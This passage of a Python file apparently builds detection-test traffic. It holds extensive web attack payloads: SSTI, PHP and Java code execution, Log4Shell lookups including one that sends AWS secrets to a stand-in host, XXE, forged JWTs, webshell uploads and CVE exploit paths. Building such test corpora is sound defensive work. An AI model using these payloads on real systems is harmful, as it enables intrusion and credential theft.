{{ .Exec "id" }}
{{printf "%s" "ssti" | html}}
{{"a".toUpperCase()}}
{{ 'a'.getClass().forName('javax.script.ScriptEngineManager').newInstance() }}
{% set cmd = 'id' %}{{ ['']|map(cmd) }}
{{ "".__class__.mro()[1].__subclasses__() }}
${class.getResource("").getPath()}
${1+1}
{{1337*1337}}
{{ '7'*7 }}
#{3*3}
${{3*3}}
{{3*3|e}}
""".strip("\n").split("\n")

PHP = r"""
<?php phpinfo(); ?>
<?php system($_GET['cmd']); ?>
<?= `id` ?>
<?php eval(base64_decode('cGhwaW5mbygpOw==')); ?>
<? echo 1 ?>
<script language="php">phpinfo();</script>
phpinfo();
;phpinfo();
system('id')
system("id");
exec('id');
passthru('id')
shell_exec('id')
eval('phpinfo();')
assert('phpinfo()')
eval($_GET['x'])
eval(base64_decode('cGhwaW5mbygpOw=='))
${@phpinfo()}
{${phpinfo()}}
${system('id')}
${@print(md5(1))}
';phpinfo();//
");phpinfo();//
'.system('id').'
".system('id')."
create_function('','phpinfo();')
call_user_func('system','id')
array_map('system',array('id'))
preg_replace('/.*/e','phpinfo()','')
file_get_contents('/etc/passwd')
file_put_contents('x.php','<?php ?>')
include('/etc/passwd')
require('http://e.example/x.php')
print_r(scandir('.'));
print(md5(31337));
die(md5(1));
var_dump(getenv());
$_GET[0]($_GET[1])
$_POST['x']
$GLOBALS['x']
$a='system';$a('id');
('sys'.'tem')('id')
(~%8F%97%8F%96%91%99%90)();
O:8:"stdClass":1:{s:1:"a";s:1:"b";}
O:4:"User":2:{s:4:"name";s:5:"admin";s:5:"admin";b:1;}
a:2:{i:0;O:8:"Monolog\X":0:{}i:1;i:1;}
O:+8:"stdClass":0:{}
Tzo4OiJzdGRDbGFzcyI6MDp7fQ==|O:3:"Foo":0:{}
unserialize($_COOKIE['x'])
highlight_file(__FILE__);
show_source('index.php');
base64_decode('x')
php_uname();
phpversion()
ini_set('display_errors',1);
@eval($_POST['x']);
@ini_set("display_errors","0");@set_time_limit(0);
auto_prepend_file=php://input
allow_url_include=1
error_log("x",3,"/var/www/x.php");
fopen('/etc/passwd','r');
readfile('/etc/passwd')
next(getallheaders());eval(pos(x));
eval(next(getallheaders()));
""".strip("\n").split("\n")

JAVA = r"""
${jndi:ldap://e.example/a}
${jndi:rmi://e.example/a}
${jndi:dns://e.example}
${jndi:ldaps://e.example:1389/x}
${JNDI:LDAP://e.example/a}
${${lower:j}ndi:ldap://e.example/a}
${${lower:j}${lower:n}${lower:d}i:${lower:rmi}://e.example}
${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://e.example/a}
${${upper:j}ndi:ldap://e.example}
${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap://e.example}
${j${k8s:k5:-ND}i:ldap://e.example}
${jndi:${lower:l}${lower:d}a${lower:p}://e.example}
${${sys:x:-j}ndi:ldap://e.example/${env:AWS_SECRET_ACCESS_KEY}}
${jndi:ldap://127.0.0.1#e.example/a}
%24%7Bjndi:ldap://e.example/a%7D
${script:javascript:java.lang.Runtime.getRuntime().exec('id')}
${url:UTF-8:http://e.example}
${dns:address|e.example}
${env:PATH}
T(java.lang.Runtime).getRuntime().exec("id")
java.lang.Runtime.getRuntime().exec("id")
new java.lang.ProcessBuilder({"id"}).start()
''.getClass().forName('java.lang.Runtime')
#{T(java.lang.Runtime).getRuntime().exec('id')}
%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}
%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('x',1)}
${(#_memberAccess['allowStaticMethodAccess']=true).(#a=1)}
(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)
%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}
@java.lang.System@getenv()
rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC
rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9u
aced00057372001164
H4sIAAAAAAAAAFvzloG1uIhBNkAAAAAAAAA
AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0s
!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://e.example/"]]]]
!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: "ldap://e.example", autoCommit: true}
{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://e.example/a","autoCommit":true}
{"@type":"java.net.Inet4Address","val":"e.example"}
{"x":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"}}
["org.springframework.context.support.ClassPathXmlApplicationContext","http://e.example/x.xml"]
<java.util.PriorityQueue serialization="custom"></java.util.PriorityQueue>
<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface></dynamic-proxy></sorted-set>
<java class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"></object></java>
{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}
System.Diagnostics.Process.Start("calc.exe")
com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl
org.apache.commons.collections.functors.InvokerTransformer
javax.naming.InitialContext
java.net.URLClassLoader
new javax.script.ScriptEngineManager().getEngineByName("js").eval("1")
Class.forName("java.lang.Runtime")
""".strip("\n").split("\n")

NODE = r"""
require('child_process').exec('id')
require("fs").readFileSync("/etc/passwd")
process.mainModule.require('child_process').execSync('id')
global.process.mainModule.constructor._load('child_process').exec('id')
_$$ND_FUNC$$_function(){require('child_process').exec('id')}()
{"rce":"_$$ND_FUNC$$_function (){require('child_process').exec('ls /')}()"}
res.end(require('fs').readdirSync('.').toString())
process.exit()
process.env
new Function("return process")().mainModule
(function(){return this.constructor.constructor('return process')()})()
this.constructor.constructor("return process")()
import('child_process').then(x=>x.exec('id'))
eval("require('child_process').exec('id')")
[].constructor.constructor('return process')()
fs.readFileSync('/etc/passwd')
child_process.spawn('id')
x[__proto__][isAdmin]=true
{"__proto__":{"isAdmin":true}}
{"constructor":{"prototype":{"isAdmin":true}}}
{"a":{"__proto__":{"shell":"node","NODE_OPTIONS":"--inspect=e.example"}}}
Object.prototype.isAdmin=true
__import__('os').system('id')
__import__("subprocess").check_output("id",shell=True)
eval("__import__('os').system('id')")
exec("import os;os.system('id')")
os.system('id')
os.popen('id').read()
import os;os.system('id')
subprocess.Popen('id',shell=True)
open('/etc/passwd').read()
().__class__.__bases__[0].__subclasses__()
print(open('/etc/passwd').read())
compile('1','','exec')+__import__('os')
!!python/object/apply:os.system ["id"]
!!python/object/new:os.system [id]
!!python/name:os.system
gASVIwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==
Y29zCnN5c3RlbQooUydpZCcKdFIu
{"py/object":"__main__.Shell","cmd":"id"}
{"py/reduce":[{"py/type":"subprocess.Popen"},{"py/tuple":["id"]}]}
--- !ruby/object:Gem::Installer {i: x}
--- !ruby/hash:ActionController::Routing
BAhvOhVHZW06OlJlcXVpcmVtZW50AA==
BAh7CEkiD3Nlc3Npb25faWQGOgZFVEki
Kernel.exec('id')
IO.popen('id').read
%x(id)
`id`
system("id")
eval("system('id')")
File.read('/etc/passwd')
Object.const_get('Kernel').system('id')
open("|id").read
User.send(:eval,'system("id")')
os.execute('id')
io.popen('id'):read('*a')
redis.call('config','set','dir','/tmp')
""".strip("\n").split("\n")

NOSQL = r"""
{"$ne":null}
{"$gt":""}
{"$regex":".*"}
{"$where":"sleep(5000)"}
{"$where":"this.password.length>0"}
{"$in":["admin","root"]}
{"$or":[{"a":1},{"b":2}]}
{'$nin':[1]}
{$ne:1}
{$gt:''}
' || '1'=='1
' || 1==1//
' || 1==1%00
'; return true; var x='
'; return this.password; var x='
0;return true
';sleep(5000);'
' && this.password.match(/.*/)//
' && this.password.match(/^a.*$/)//
";return(true);var a="
admin' || 'a'=='a
this.username=='admin'
db.users.find()
db.users.drop()
db.getCollectionNames()
1;while(true){}
function(){return true}
function(){sleep(5000)}
true, $where: '1 == 1'
, $where: '1 == 1'
$where: '1 == 1'
' } ], $comment:'successful MongoDB injection'
[$ne]=1
|| 1==1
';it=new%20Date();do{pt=new%20Date();}while(pt-it<5000);
*)(uid=*))(|(uid=*
*)(&
*)(|(&
admin)(&)
admin)(|(password=*
admin)(!(&(1=0
*)(objectClass=*
*)(|(objectclass=*)
*))%00
)(cn=*
x*)(mail=*))%00
(&(objectClass=user)(cn=*))
(|(uid=*)(cn=*))
*()|&'
admin*)((|userpassword=*)
*)(uid=*
)(|(uid=*
foo)(department=*)
' or '1'='1
' or count(/*)=1 or 'a'='b
' or name()='username' or 'x'='y
' or position()=1 or '
x' or 1=1 or 'x'='y
'] | //user/*[contains(*,'
'] | //* | a['
//user[1]
' or substring(//user[1]/name,1,1)='a
' or string-length(name(/*[1]))=4 or '
count(/child::node())
x'] | //password | //x['
1 or contains(name,'a') or 1
' or contains(parent::*,'a') or '
ancestor::*
doc('http://e.example/')
' and count(//*)>0 and '1'='1
""".strip("\n").split("\n")

XXE = [
    '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/">]><r>&x;</r>',
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://e.example/x.dtd"> %p;]><r/>',
    '<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://e.example/x.dtd"><r/>',
    '<?xml version="1.0"?><!DOCTYPE r PUBLIC "x" "http://e.example/x.dtd" [<!ELEMENT r ANY>]><r/>',
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY l2 "&lol;&lol;&lol;&lol;">]><lolz>&l2;</lolz>',
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "aaaaaaaaaa">]><a>&a;&a;&a;&a;&a;&a;&a;</a>',
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "expect://id">]><r>&x;</r>',
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/resource=index.php">]><r>&x;</r>',
    '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
    '<svg xmlns="http://www.w3.org/2000/svg"><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hostname">]><text>&a;</text></svg>',
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl"><xsl:template match="/"><xsl:value-of select="php:function(\'system\',\'id\')"/></xsl:template></xsl:stylesheet>',
    '<xsl:value-of select="document(\'/etc/passwd\')"/>',
    '<xsl:value-of select="system-property(\'xsl:vendor\')"/>',
    '<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % eval "<!ENTITY &#x25; e SYSTEM \'http://e.example/?%file;\'>">',
    '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x',
    '<!doctype x [ <!entity y system "file:///c:/windows/win.ini"> ]><x>&y;</x>',
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "jar:http://e.example/x.zip!/x">]><x>&y;</x>',
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "netdoc:///etc/passwd">]><x>&y;</x>',
    '<!DOCTYPE x [<!ATTLIST x a CDATA #IMPLIED>]><x/>',
]

CRLF = [
    "x\r\nSet-Cookie: a=b", "x\nSet-Cookie: a=b", "x\r\nLocation: http://e.example/", "\r\n\r\n<script>alert(1)</script>",
    "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK", "x%0d%0aSet-Cookie:a=b", "%0d%0aLocation:%20http://e.example", "x\r\nX-Injected: 1",
    "x\rSet-Cookie: a=b", "a@example.com\r\nBcc: b@example.com", "a@example.com\nCc: b@example.com", "x\r\nTransfer-Encoding: chunked",
    "x\r\nX-XSS-Protection: 0\r\n\r\n<svg onload=alert(1)>", "subject\r\nTo: c@example.com", "a\r\nContent-Type: text/html\r\n\r\n<html>x</html>",
    "嘊嘍Set-Cookie: a=b", "x\r\n\tSet-Cookie: a=b", "x\nAccess-Control-Allow-Origin: *", "x\r\nRefresh: 0;url=http://e.example",
    "a@example.com\r\nRCPT TO:<b@example.com>\r\nDATA", "foo\r\nGET /admin HTTP/1.1\r\nHost: a", "x\r\nHost: e.example", "%250d%250aSet-Cookie:a=b",
    "x\r\nLink: <//e.example>; rel=stylesheet", "x\\r\\nSet-Cookie: a=b",
]


def q(text):
    import urllib.parse
    return urllib.parse.quote(text, safe="")


def jwt(head, body='{"sub":"1","admin":true}', signature=""):
    b = lambda s: base64.urlsafe_b64encode(s.encode()).decode().rstrip("=")
    return b(head) + "." + b(body) + "." + signature


TOKENS = [jwt('{"alg":"none"}'), jwt('{"alg":"none","typ":"JWT"}'), jwt('{"typ":"JWT","alg":"none"}'), jwt('{"alg":"None","typ":"JWT"}'), jwt('{"alg":"NONE"}'), jwt('{"alg": "nOnE" , "typ": "JWT"}'), jwt('{"typ":"JWT","alg":"none","kid":"1"}', signature="abc"), jwt('{"alg":"HS256"}'), jwt('{"alg":"HS256","kid":"../../../dev/null"}', signature="x"), jwt('{"alg":"HS256","kid":"x\' UNION SELECT \'a"}', signature="x"), jwt('{"alg":"HS256","kid":"|id"}', signature="x"), jwt('{"alg":"RS256","jku":"http://e.example/jwks.json"}', signature="x"), jwt('{"alg":"RS256","x5u":"http://e.example/x.crt"}', signature="x"), jwt('{"alg":"RS256","jwk":{"kty":"RSA"}}', signature="x")]

FORM = "application/x-www-form-urlencoded"
JSON = "application/json"
NESTED = lambda depth: "{user" + "{friends" * depth + "{id}" + "}" * depth + "}"
GRAPHQL = [
    "{__schema{types{name}}}", "query IntrospectionQuery { __schema { queryType { name } mutationType { name } types { name fields { name } } } }",
    '{__type(name:"User"){fields{name}}}', "query{__schema{directives{name}}}", NESTED(15), NESTED(25), NESTED(60),
    "query{" + " ".join(f"a{i}:login(user:\"x\",pass:\"{i}\"){{token}}" for i in range(60)) + "}",
    "mutation{" + " ".join(f"m{i}:verify(code:{i}){{ok}}" for i in range(100)) + "}",
    "{" + "__typename " * 200 + "}", "query{__typename " + "@include(if:true)" * 50 + "}", "query{user{name" + "@aa" * 40 + "}}",
    "fragment A on User{...B} fragment B on User{...A} query{user{...A}}", "fragment A on Q{...A} {...A}",
    "{user(id:\"1' OR '1'='1\"){name}}", "{search(q:\"<script>alert(1)</script>\"){id}}", "{user(id:\"1; DROP TABLE users--\"){id}}",
    "{file(path:\"../../../etc/passwd\"){data}}", "{fetch(url:\"http://169.254.169.254/latest/\"){body}}", "{ping(host:\"127.0.0.1; cat /etc/passwd\")}",
    "query{user(where:{name:{$ne:\"\"}}){id}}", "query($a:String){user(id:$a){id}} #__schema{types{name}}\n{__schema{types{name}}}",
]

FAMILIES = {
    "sqli": {"values": SQL, "places": ["query", "form", "json", "cookie", "path", "multipart", "json-escaped", "twice", "polluted", "put", "xml"], "more": 2, "evasions": [swap_case, tabs, sql_comments, lines, twice]},
    "sqli-headers": {"values": ["' OR 1=1--", "1' AND SLEEP(5)#", "'XOR(if(now()=sysdate(),sleep(6),0))OR'", "' UNION SELECT 1,2,3--", "1'; WAITFOR DELAY '0:0:5'--"], "places": ["agent", "referer", "forwarded"], "more": 2},
    "xss": {"values": XSS, "places": ["query", "form", "json", "cookie", "path", "multipart", "json-escaped", "twice", "name", "polluted", "put"], "more": 2, "evasions": [swap_case, entities, hex_entities, twice]},
    "xss-headers": {"values": ["<script>alert(1)</script>", "\"><svg onload=alert(1)>", "<img src=x onerror=alert(1)>", "';alert(1)//"], "places": ["agent", "referer", "forwarded"], "more": 2},
    "rce-unix": {"values": UNIX, "places": ["query", "form", "json", "cookie", "multipart", "json-escaped", "twice", "put", "xml"], "more": 2, "evasions": [empty_quotes, ifs, twice]},
    "rce-headers": {"values": ["() { :; }; /bin/bash -c 'id'", "() { ignored;};/usr/bin/id", "; cat /etc/passwd", "$(curl http://e.example)", "`id`"], "places": ["agent", "referer", "forwarded"], "more": 2},
    "rce-windows": {"values": WINDOWS, "places": ["query", "form", "json", "multipart", "cookie"], "more": 2},
    "traversal": {"values": TRAVERSAL, "places": ["query", "form", "json", "cookie", "multipart", "twice"], "more": 2, "requests": [("get", path) for path in TRAVERSAL_PATHS]},
    "ssrf": {"values": SSRF, "places": ["query", "form", "json", "multipart", "twice"], "more": 2},
    "ssti": {"values": SSTI, "places": ["query", "form", "json", "multipart", "json-escaped", "twice", "name"], "more": 2},
    "php": {"values": PHP, "places": ["query", "form", "json", "cookie", "multipart"], "more": 2},
    "java": {"values": JAVA, "places": ["query", "form", "json", "cookie", "multipart"], "more": 2, "requests": [("header", name, "${jndi:ldap://e.example/a}") for name in ("X-Api-Version", "User-Agent", "X-Forwarded-For", "Referer", "Accept", "Authorization", "Cookie")] + [("header", "Content-Type", "%{(#_='multipart/form-data')}"), ("post", "/", FORM, "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"), ("post", "/", "application/x-java-serialized-object", "x"), ("post", "/", FORM, "redirect:${1}=1"), ("post", "/api", JSON, '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://e.example/a"}'), ("header", "spring.cloud.function.routing-expression", "T(java.lang.Runtime)")]},
    "script": {"values": NODE, "places": ["query", "form", "json", "multipart"], "more": 2, "requests": [("get", "/?__proto__[admin]=1"), ("get", "/?constructor[prototype][admin]=1"), ("get", "/?a[__proto__][b]=1"), ("post", "/api", JSON, '{"__proto__":{"admin":true}}'), ("post", "/api", JSON, '{"a":{"constructor":{"prototype":{"x":1}}}}'), ("post", "/", FORM, "__proto__.admin=true"), ("get", "/?x=1&__proto__.toString=1")]},
    "nosql": {"values": NOSQL, "places": ["query", "form", "json", "multipart"], "more": 2, "requests": [("get", "/?user[$ne]=1&password[$ne]=1"), ("get", "/?q[$gt]="), ("post", "/login", FORM, "user[$regex]=.*&pass[$exists]=true"), ("post", "/login", JSON, '{"user":{"$ne":null},"password":{"$ne":null}}'), ("post", "/login", JSON, '{"user":{"$gt":""}}'), ("post", "/login", JSON, '{"user":"admin","password":{"$regex":"^a"}}'), ("post", "/find", JSON, '{"$where":"sleep(1000)"}'), ("get", "/?f[$where]=1")]},
    "xxe": {"values": XXE, "places": ["query", "form", "json", "multipart"], "more": 1, "requests": [("post", "/soap", "application/xml", x) for x in XXE] + [("post", "/rss", "text/xml", x) for x in XXE] + [("post", "/x", "application/soap+xml", XXE[0]), ("post", "/x", "text/plain", XXE[0]), ("post", "/x", "image/svg+xml", XXE[0]), ("file", "x.svg", XXE[0], "image/svg+xml"), ("file", "x.xml", XXE[2], "text/xml")]},
    "graphql": {"requests": [("post", "/graphql", JSON, __import__("json").dumps({"query": text})) for text in GRAPHQL] + [("get", "/graphql?query=" + q(text)) for text in GRAPHQL] + [("post", "/graphql", "application/graphql", text) for text in GRAPHQL[:14]] + [("post", "/graphql", JSON, "[" + ",".join(['{"query":"{login(code:1){ok}}"}'] * n) + "]") for n in (12, 30, 100)] + [("get", "/graphql?query=mutation{deleteUser(id:1){id}}")]},
    "jwt": {"requests": [("header", "Authorization", "Bearer " + t) for t in TOKENS] + [("header", "Cookie", "token=" + t) for t in TOKENS] + [("get", "/?token=" + t) for t in TOKENS]},
    "upload": {"requests": [("file", name, content, kind) for name, content, kind in [
        ("shell.php", "<?php system($_GET['c']); ?>", "application/x-php"), ("shell.phtml", "<?= 1 ?>", "image/jpeg"), ("shell.php5", "x", "image/png"), ("shell.pHp", "x", "image/png"), ("shell.php.jpg", "x", "image/jpeg"), ("shell.jpg.php", "x", "image/jpeg"), ("shell.php%00.jpg", "x", "image/jpeg"), ("shell.php;.jpg", "x", "image/jpeg"), ("shell.php.", "x", "image/jpeg"), ("shell.php ", "x", "image/jpeg"), ("shell.phar", "x", "image/jpeg"), ("shell.asp;.jpg", "x", "image/jpeg"), ("shell.aspx", "<%@ Page Language=\"C#\" %>", "text/plain"), ("shell.ashx", "x", "text/plain"), ("shell.jsp", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>", "text/plain"), ("shell.jspx", "x", "text/xml"), ("x.war", "PK", "application/octet-stream"), ("x.cgi", "#!/bin/sh", "text/plain"), ("x.pl", "#!/usr/bin/perl", "text/plain"), (".htaccess", "AddType application/x-httpd-php .jpg", "text/plain"), ("web.config", "<configuration>", "text/xml"), (".user.ini", "auto_prepend_file=x.jpg", "text/plain"), ("x.shtml", "<!--#exec cmd=\"id\"-->", "text/html"), ("x.cer", "x", "text/plain"), ("x.cfm", "x", "text/plain"), ("../../shell.jpg", "x", "image/jpeg"), ("..\\..\\shell.txt", "x", "image/jpeg"), ("/etc/cron.d/x", "x", "text/plain"), ("a;id;.jpg", "x", "image/jpeg"), ("$(id).jpg", "x", "image/jpeg"), ("`id`.png", "x", "image/png"), ("<img src=x onerror=alert(1)>.png", "x", "image/png"), ("photo.jpg", "GIF89a;<?php system($_GET['c']); ?>", "image/gif"), ("photo.gif", "GIF89a<?php eval($_POST[0]);", "image/gif"), ("photo.png", "x<?php @eval($_REQUEST['a']); ?>", "image/png"), ("x.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>", "image/svg+xml"), ("x.svg", "<svg><script>alert(1)</script></svg>", "image/svg+xml"), ("x.svg", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>", "image/svg+xml"), ("x.txt", "<?php phpinfo(); ?>", "text/plain"), ("x.docx", "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>", "application/octet-stream"), ("shell.php::$DATA", "x", "image/png"), ("x.exe.config", "x", "text/plain"), ("x.hta", "x", "text/plain"), ("x.php7", "x", "image/png"), ("x.inc", "<?php ?>", "text/plain"), ("shell.jpg", "<% eval request(\"c\") %>", "image/jpeg"), ("x.jpg", "<?=`$_GET[0]`?>", "image/jpeg"), ("x.html", "<script>alert(document.cookie)</script>", "text/html"), ("x.py", "import os", "text/x-python"), ("x.sh", "#!/bin/bash\nid", "text/x-sh"), ("run.bat", "@echo off", "text/plain"), ("x.lnk", "x", "text/plain"), ("x.dll", "MZ", "application/octet-stream")]] + [("get", "/save?filename=shell.php"), ("get", "/save?filename=x.php.jpg"), ("post", "/save", FORM, "file_name=a.jsp&x=1")]},
    "crlf": {"values": CRLF, "places": ["query", "form", "json", "multipart"], "more": 1, "requests": [("get", "/%0d%0aSet-Cookie:a=b"), ("get", "/x%0aLocation:http://e.example"), ("get", "/%E5%98%8A%E5%98%8DSet-Cookie:a=b"), ("get", "/redirect%0d%0a%0d%0a<script>")]},
    "fixation": {"requests": [("get", "/login?PHPSESSID=1234567890abcdef"), ("get", "/?JSESSIONID=ABCDEF0123"), ("get", "/app?ASP.NET_SessionId=x1y2"), ("get", "/cart;jsessionid=ABCDEF"), ("post", "/", FORM, "c=" + q("document.cookie='sid=1'")), ("get", "/?x=" + q("<script>document.cookie=\"sid=attacker\"</script>")), ("get", "/?x=" + q("<meta http-equiv=Set-Cookie content=\"sid=1\">")), ("get", "/?x=" + q("a\r\nSet-Cookie: sid=1")), ("get", "/?laravel_session=abc"), ("get", "/?connect.sid=s%3Aabc"), ("get", "/?CFID=1&CFTOKEN=2"), ("get", "/?_session_id=abc")]},
    "scanner": {"requests": [("header", "User-Agent", agent) for agent in ("sqlmap/1.8.2#stable (https://sqlmap.org)", "Nikto/2.5.0", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "gobuster/3.6", "Fuzz Faster U Fool v2.1.0 ffuf", "Wfuzz/3.1.0", "WPScan v3.8.25 (https://wpscan.com/)", "masscan/1.3", "Mozilla/5.0 zgrab/0.x", "DirBuster-1.0-RC1", "feroxbuster/2.10", "Acunetix-Product", "Netsparker", "w3af.org", "Arachni/v1.5", "OpenVAS", "Nessus SOAP", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "commix/3.9", "XSStrike", "Havij", "ZmEu", "Hydra", "skipfish/2.10b", "whatweb/0.5.5", "jaeles/1.0", "Morfeus Fucking Scanner", "BSQLBF", "dirsearch", "Mozilla/5.0 (compatible; Qualys)", "Wapiti/3.1", "JBroFuzz/1.4")] + [("header", "Acunetix-Aspect", "enabled"), ("header", "X-Scanner", "Netsparker"), ("header", "X-Wipp", "x"), ("get", "/acunetix-wvs-test-for-some-inexistent-file"), ("get", "/nessus_is_probing_you_"), ("get", "/w00tw00t.at.ISC.SANS.DFind:)"), ("get", "/?x=http://x.oastify.com/"), ("header", "Referer", "http://abc.oast.fun/")]},
    "cve": {"requests": [("get", path) for path in (
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/_ignition/execute-solution", "/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id", "/autodiscover/autodiscover.json?@e.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@e.example", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd", "/mgmt/tm/util/bash", "/vpn/../vpns/cfg/smb.conf", "/dana-na/../dana/html5acc/guacamole/../../../../etc/passwd?/dana/html5acc/guacamole/", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", "/wls-wsat/CoordinatorPortType", "/console/css/%252e%252e%252fconsole.portal", "/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/public/plugins/alertlist/../../../../../../../../etc/passwd", "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%29%7D/", "/solr/core/dataimport?command=full-import&debug=true", "/druid/indexer/v1/sampler", "/GponForm/diag_Form?images/", "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/x", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=id", "/boaform/admin/formLogin", "/HNAP1/", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)", "/ui/vropspluginui/rest/services/uploadova", "/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", "/Telerik.Web.UI.WebResource.axd?type=rau", "/api/v1/totp/user-backup-code/../../license/keys-status/%3bid", "/webtools/control/ProgramExport;/?USERNAME=&PASSWORD=&requirePasswordChange=Y", "/hax?jsp=/app/rest/users;.jsp", "/SetupWizard.aspx/x", "/php/ztp_gate.php/.js.map", "/global-protect/portal/images/../../../x", "/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false", "/CFIDE/administrator/enter.cfm?locale=../../../../x%00en", "/jolokia/exec/ch.qos.logback.classic", "/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", "/hello.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "/geoserver/wfs?request=GetPropertyValue&valueReference=exec(java.lang.Runtime.getRuntime(),'id')", "/cgi-bin/account_mgr.cgi?cmd=cgi_user_add&name=%27;id;%27", "/SDK/webLanguage", "/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=id", "/ecp/DDI/DDIService.svc/x?a=/ecp/y.js", "/actuator/gateway/routes/x", "/language/Swedish${IFS}&&echo${IFS}x", "/nagiosxi/login.php", "/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.x/checkScript")] + [("header", "X-Middleware-Subrequest", "middleware:middleware:middleware"), ("header", "Cookie", "SESSID=/../../../opt/panlogs/tmp/x`id`"), ("header", "Range", "bytes=0-18446744073709551615"), ("header", "Proxy", "http://e.example"), ("header", "X-Original-URL", "/admin"), ("post", "/", FORM, "name[%23post_render][]=passthru&name[%23markup]=id"), ("post", "/ajax/render/widget_php", FORM, "widgetConfig[code]=phpinfo();exit;"), ("post", "/", JSON, '{"then":"$1:__proto__:then","status":"resolved_model","value":"{\\"then\\":\\"$B\\"}","_response":{"_prefix":"x","_formData":{"get":"$1:constructor:constructor"}}}')]},
    "webshell": {"requests": [("get", path) for path in ("/uploads/c99.php", "/images/r57.php", "/wso.php", "/b374k.php", "/cmd.jsp?cmd=id", "/shell.php?cmd=ls", "/uploads/2024/05/x.php", "/files/a.aspx", "/wp-content/uploads/x.php?c=id", "/alfa.php", "/up.php?cmd=whoami", "/indoxploit.php", "/antsword.jsp", "/simple-backdoor.php?cmd=cat+/etc/passwd", "/p0wny-shell.php", "/webshell.php", "/aspxspy.aspx", "/reGeorg.jsp", "/images/logo.php", "/tmp/x.jspx", "/a.php?cmd=id", "/cmdasp.aspx", "/marijuana.php", "/static/css/a.php")] + [("post", "/x.php", FORM, body) for body in ("a=@ini_set(\"display_errors\",\"0\");@set_time_limit(0);", "z=" + q("@eval(base64_decode($_POST[z0]));"), "pass=" + q("eval($_POST['x'])"), "cmd=whoami", "x=" + q("Response.Write(\"->|\");"), "z0=QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwiMCIp")]},
